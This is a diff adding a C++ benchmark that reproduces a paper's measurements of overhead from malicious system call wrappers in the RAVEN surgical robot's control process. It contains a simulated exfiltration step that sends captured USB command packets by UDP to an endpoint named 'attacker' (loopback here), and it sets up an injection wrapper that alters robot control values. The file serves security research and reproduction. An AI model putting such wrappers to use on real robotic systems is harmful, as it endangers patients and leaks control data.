@@ -1,0 +1,131 @@
+// TABLE II reproduction: performance overhead of the malicious system
+// call wrappers.
+//
+// Paper setup: 50,000 invocations of the write system call in the RAVEN
+// process, measured (a) baseline, (b) with the logging wrapper (process
+// name + fd check, then forwarding a copy of the USB buffer to the
+// attacker over UDP), (c) with the injection wrapper (trigger check on
+// Byte 0 + in-place byte overwrite).
+//
+// We measure the same three operations for real: a genuine write(2) to
+// /dev/null as the baseline syscall, a genuine sendto(2) of the captured
+// packet toward a blackholed local UDP endpoint for the exfiltration
+// cost, and the actual InjectionWrapper code for the injection cost.
+// Absolute numbers depend on the host; the paper's *shape* — injection
+// overhead tiny, logging overhead dominated by the extra UDP send, both
+// far inside the 1 ms control budget — is what must reproduce.
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <cstdio>
+#include <cstring>
+#include <vector>
+
+#include "attack/injection_wrapper.hpp"
+#include "attack/logging_wrapper.hpp"
+#include "bench_util.hpp"
+#include "hw/usb_packet.hpp"
+#include "math/stats.hpp"
+
+namespace rg {
+namespace {
+
+using Clock = std::chrono::steady_clock;
+
+CommandBytes sample_packet(bool pedal_down) {
+  CommandPacket pkt;
+  pkt.state = pedal_down ? RobotState::kPedalDown : RobotState::kPedalUp;
+  pkt.dac = {120, -340, 560, -780, 0, 0, 0, 0};
+  return encode_command(pkt);
+}
+
+struct Timing {
+  RunningStats stats_us;
+};
+
+template <typename F>
+Timing measure(int iterations, F&& op) {
+  Timing t;
+  for (int i = 0; i < iterations; ++i) {
+    const auto start = Clock::now();
+    op(i);
+    const auto stop = Clock::now();
+    t.stats_us.add(std::chrono::duration<double, std::micro>(stop - start).count());
+  }
+  return t;
+}
+
+void print_row(const char* name, const Timing& t) {
+  std::printf("  %-28s %8.2f %8.2f %8.2f %8.2f\n", name, t.stats_us.min(), t.stats_us.max(),
+              t.stats_us.mean(), t.stats_us.stddev());
+}
+
+}  // namespace
+}  // namespace rg
+
+int main() {
+  using namespace rg;
+  bench::header(
+      "TABLE II: Performance overhead of malicious system call wrappers\n"
+      "(50,000 write invocations; microseconds)");
+
+  const int iters = bench::reps(50000);
+  CommandBytes pkt = sample_packet(true);
+
+  // --- Baseline: the real write(2) syscall -------------------------------
+  const int devnull = ::open("/dev/null", O_WRONLY);
+  if (devnull < 0) {
+    std::perror("open /dev/null");
+    return 1;
+  }
+  const Timing baseline = measure(iters, [&](int) {
+    (void)!::write(devnull, pkt.data(), pkt.size());
+  });
+
+  // --- Logging wrapper: filter + copy + UDP exfiltration + original write
+  const int sock = ::socket(AF_INET, SOCK_DGRAM, 0);
+  sockaddr_in attacker{};
+  attacker.sin_family = AF_INET;
+  attacker.sin_port = htons(9);  // discard port; nothing listens, UDP doesn't care
+  attacker.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  LoggingWrapper logger("r2_control", devnull, "r2_control", devnull);
+  const Timing logging = measure(iters, [&](int) {
+    (void)logger.on_packet(pkt, 0);  // process/fd check + capture copy
+    (void)::sendto(sock, pkt.data(), pkt.size(), 0,
+                   reinterpret_cast<const sockaddr*>(&attacker), sizeof(attacker));
+    (void)!::write(devnull, pkt.data(), pkt.size());
+    if (logger.packets_captured() > 4096) logger.clear();  // bounded buffer
+  });
+
+  // --- Injection wrapper: trigger check + byte overwrite + original write
+  InjectionConfig cfg;
+  cfg.mode = InjectionConfig::Mode::kAddChannel;
+  cfg.target_channel = 1;
+  cfg.value = 77;
+  cfg.duration_packets = 0;  // unbounded so every call takes the full path
+  InjectionWrapper injector(cfg);
+  const Timing injection = measure(iters, [&](int) {
+    (void)injector.on_packet(pkt, 0);
+    (void)!::write(devnull, pkt.data(), pkt.size());
+  });
+
+  std::printf("\n  %-28s %8s %8s %8s %8s\n", "Time (us)", "Min", "Max", "Mean", "Std");
+  print_row("Baseline system call", baseline);
+  print_row("With wrapper: Logging", logging);
+  print_row("With wrapper: Injection", injection);
+
+  std::printf("\n  Logging overhead   : %+7.2f us (paper: +18.7 us, UDP-send dominated)\n",
+              logging.stats_us.mean() - baseline.stats_us.mean());
+  std::printf("  Injection overhead : %+7.2f us (paper: +2.3 us)\n",
+              injection.stats_us.mean() - baseline.stats_us.mean());
+  std::printf("  Control budget     : 1000 us per cycle -> overhead %.2f%% (logging), %.2f%% (injection)\n",
+              0.1 * (logging.stats_us.mean() - baseline.stats_us.mean()),
+              0.1 * (injection.stats_us.mean() - baseline.stats_us.mean()));
+
+  ::close(sock);
+  ::close(devnull);
+  return 0;
+}
